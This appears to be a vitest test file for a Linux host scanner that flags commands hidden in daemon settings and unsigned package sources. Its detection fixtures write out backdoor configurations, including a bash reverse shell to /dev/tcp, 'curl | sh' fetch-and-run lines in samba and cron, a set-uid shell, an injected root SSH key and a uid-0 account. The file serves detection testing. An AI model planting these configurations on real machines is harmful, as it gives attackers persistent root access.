import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { daemonSettings } from '../../source/checks/daemon-settings.ts';
import { packageSources } from '../../source/checks/package-sources.ts';
import { fail2banForms, perlForms, rsyslogForms, settingCommands, snmpForms, sysctlForms } from '../../source/parsers/daemon-settings.ts';
import * as services from '../../source/parsers/service-settings.ts';
import { isNearby, parseSourcesList, parseSourceStanzas } from '../../source/parsers/package-sources.ts';
import { debian } from '../support/debian.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

const asked = (machine: Machine) => told(run(daemonSettings, memoryHost(debian(['/usr/bin/logger', '/usr/sbin/iptables'], machine))).findings);
const loud = (machine: Machine) => asked(machine).filter(one => !/^(?:info|low)/.test(one));

describe('commands in settings', () => {
	test('each in its own form', () => {
		expect(settingCommands(Buffer.from('# ^/no\n:msg, contains, "x" ^/var/lib/x;T\nmodule(load="omprog")\naction(type="omprog" binary="/opt/x -a")\n'), rsyslogForms).map(({ line, command }) => `${line} ${command}`)).toEqual(['2 /var/lib/x', '4 /opt/x -a']);
		expect(settingCommands(Buffer.from('extend .1.3.6 name /bin/sh -c "x"\npass .1.3 /opt/p\nrocommunity public\n'), snmpForms).map(({ command }) => command)).toEqual(['/bin/sh -c "x"', '/opt/p']);
		expect(settingCommands(Buffer.from('kernel.core_pattern = core.%p\nkernel.core_pattern=|/usr/lib/x %p\n'), sysctlForms).map(({ command }) => command)).toEqual(['/usr/lib/x %p']);
		expect(settingCommands(Buffer.from('$nrconf{x} = 1;\nsystem("/tmp/x &");\n'), perlForms).map(({ command }) => command)).toEqual(['/tmp/x &']);
		expect(settingCommands(Buffer.from('actionban = iptables -I <chain>\nactname = x\n'), fail2banForms)).toMatchObject([{ command: 'iptables -I <chain>' }]);
	});

	test('what packages and people write there is ordinary', () => {
		expect(
			loud({
				'/etc/tmpfiles.d/own.conf': 'd /run/app 2755 www-data www-data - -\nz /var/log/journal 2755 root systemd-journal - -\nf /run/x 0644 root root - text\nL+ /etc/mtab - - - - ../proc/self/mounts\n',
				'/etc/sysusers.d/own.conf': 'u app - "App" /opt/app\nu root 0 "Super User" /root\ng adm 4\n',
				'/etc/postfix/master.cf': 'maildrop unix - n n - - pipe\n  flags=DRXhu user=vmail argv=/usr/bin/logger -d ${recipient}\n',
				'/etc/samba/smb.conf': '[global]\n\tpanic action = /usr/share/samba/panic-action %d\n',
				'/etc/apache2/sites-enabled/x.conf': 'CustomLog ${APACHE_LOG_DIR}/access.log combined\nErrorLog "|/usr/bin/logger -t apache"\n',
				'/etc/shells': '# shells\n/bin/sh\n/bin/bash\n/usr/bin/zsh\n',
				'/etc/crypttab': 'x /dev/sdb1 none luks\n',
				'/etc/supervisor/conf.d/own.conf': '[program:own]\ncommand=/usr/local/bin/own --serve\n',
			}),
		).toEqual([]);
	});

	test('random text is taken', () => {
		fc.assert(fc.property(fc.uint8Array({ maxLength: 300 }), bytes => void Object.values(services).map(forms => settingCommands(bytes, forms))));
		fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'uCf /04755~"\\|=*\n') }), text => void Object.values(services).map(forms => settingCommands(Buffer.from(text), forms))));
		fc.assert(fc.property(fc.uint8Array({ maxLength: 400 }), bytes => void settingCommands(bytes, [...rsyslogForms, ...snmpForms, ...perlForms, ...sysctlForms])));
		const hard = Buffer.from(`a ${'"x" '.repeat(2000)}\n`);
		expect(settingCommands(hard, rsyslogForms)).toEqual([]);
	});

	test('what administrators set is ordinary', () => {
		expect(
			loud({
				'/etc/rsyslog.d/60-own.conf': '*.* @@logs.example.org:6514\n:programname, isequal, "app" /var/log/app.log\n',
				'/etc/fail2ban/jail.local': '[sshd]\nenabled = true\nignorecommand = /usr/bin/logger <ip>\n',
				'/etc/fail2ban/action.d/own.conf': '[Definition]\nactionban = iptables -I f2b -s <ip> -j DROP\n',
				'/etc/sysctl.d/99-own.conf': 'kernel.core_pattern = core.%p\n',
				'/etc/default/grub': 'GRUB_CMDLINE_LINUX_DEFAULT="quiet splash"\n',
				'/home/ann/.ssh/config': { content: 'Host nas\n\tProxyCommand ssh -W %h:%p gate\n', uid: 1000 },
				'/home/ann/.tmux.conf': { content: 'set -g status-right "#(uptime)"\nif-shell "[ -n x ]" "set -g x y"\n', uid: 1000 },
			}),
		).toEqual([]);
	});

	test.each<[string, Machine, string]>([
		['a log line', { '/etc/rsyslog.d/1.conf': ':msg, contains, "x" ^/var/lib/rsyslog/.t\n' }, 'high /etc/rsyslog.d/1.conf'],
		['a ban', { '/etc/fail2ban/action.d/a.local': "[Definition]\nactionstart = /bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4 0>&1'\n" }, 'critical /etc/fail2ban/action.d/a.local'],
		['a crash', { '/etc/sysctl.d/5.conf': 'kernel.core_pattern = |/usr/lib/.c/h %p\n' }, 'high /etc/sysctl.d/5.conf'],
		['the first program', { '/etc/default/grub.d/5.cfg': 'GRUB_CMDLINE_LINUX="init=/sbin/.init"\n' }, 'high /etc/default/grub.d/5.cfg'],
		['a share', { '/etc/samba/smb.conf': '[x]\n\troot preexec = sh -c "curl -s 192.0.2.1/s|sh"\n' }, 'high /etc/samba/smb.conf'],
		['a piped log', { '/etc/apache2/conf-enabled/l.conf': 'CustomLog "|/var/tmp/.l" combined\n' }, 'high /etc/apache2/conf-enabled/l.conf'],
		['a segment', { '/etc/postgresql/15/main/conf.d/a.conf': "archive_command = '/dev/shm/.a %p'\n" }, 'high /etc/postgresql/15/main/conf.d/a.conf'],
		['a set-uid shell at boot', { '/etc/tmpfiles.d/x.conf': 'C /var/tmp/.s 4755 root root - /bin/sh\n' }, 'high /etc/tmpfiles.d/x.conf'],
		['a key at boot', { '/etc/tmpfiles.d/k.conf': 'f+ /root/.ssh/authorized_keys 0600 root root - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPq7\n' }, 'high /etc/tmpfiles.d/k.conf'],
		['a job at boot', { '/etc/tmpfiles.d/y.conf': 'f+ /etc/cron.d/z 0644 root root - * * * * * root curl -s http://192.0.2.1/k | sh\n' }, 'high /etc/tmpfiles.d/y.conf'],
		['an account at boot', { '/etc/sysusers.d/x.conf': 'u daemon2 0 "x" / /bin/sh\n' }, 'critical /etc/sysusers.d/x.conf'],
	])('%s', (_name, machine, expected) => {
		expect(loud(machine)).toEqual([expected]);
	});
});

describe('sources of packages', () => {
	const sources = (machine: Machine) => told(run(packageSources, memoryHost(debian([], machine))).findings);

	test('both forms', () => {
		expect(parseSourcesList(Buffer.from('# deb x y\ndeb [arch=amd64 trusted=yes] http://h/d s c\ndeb-src https://d e\n'))).toEqual([
			{ line: 2, address: 'http://h/d', unsigned: true },
			{ line: 3, address: 'https://d', unsigned: false },
		]);
		expect(parseSourceStanzas(Buffer.from('Types: deb\nURIs: http://h\nTrusted: yes\n\n[a]\nbaseurl=http://b/\ngpgcheck=0\n[b]\nbaseurl=http://c\ngpgcheck=0\nenabled=0\n'))).toEqual([
			{ line: 2, address: 'http://h', unsigned: true },
			{ line: 6, address: 'http://b/', unsigned: true },
		]);
		fc.assert(fc.property(fc.uint8Array({ maxLength: 300 }), bytes => void [parseSourcesList(bytes), parseSourceStanzas(bytes)]));
	});

	test('near and far', () => {
		expect(['http://10.0.0.3/d', 'file:/srv/d', 'http://mirror/d', 'http://apt.lan:3142/d', 'http://[fd00::1]/d'].filter(one => !isNearby(one))).toEqual([]);
		expect(['http://203.0.113.9/d', 'https://deb.example.org/d'].filter(isNearby)).toEqual([]);
	});

	test('a signature is asked for, but of the house', () => {
		expect(
			sources({
				'/etc/apt/sources.list.d/a.list': 'deb [trusted=yes] http://203.0.113.9/debian ./\n',
				'/etc/apt/sources.list.d/b.list': 'deb [trusted=yes] http://repo.example.org/debian ./\n',
				'/etc/apt/sources.list.d/c.list': 'deb [trusted=yes] file:/srv/repo ./\n',
				'/etc/apt/sources.list.d/d.list': 'deb [signed-by=/etc/apt/keyrings/x.gpg] https://download.example.org/x y z\n',
			}),
		).toEqual(['high /etc/apt/sources.list.d/a.list', 'medium /etc/apt/sources.list.d/b.list', 'low /etc/apt/sources.list.d/c.list']);
	});
});
